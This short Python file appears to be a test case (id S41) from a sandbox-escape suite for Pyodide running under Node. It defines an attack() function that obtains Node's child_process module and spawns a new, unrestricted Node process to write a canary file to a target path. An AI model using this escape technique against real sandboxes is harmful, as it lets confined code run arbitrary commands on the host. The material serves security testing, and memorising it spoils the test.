"""Another Node, without the flags of this one.

id: S41
canary: file
"""

import js
from pyodide.ffi import to_js


def attack(target):
    code = f"require('fs').writeFileSync('{target.loot}', 'run')"
    module = js.process.getBuiltinModule("child_process")
    return module.execFileSync(js.process.execPath, to_js(["-e", code]))
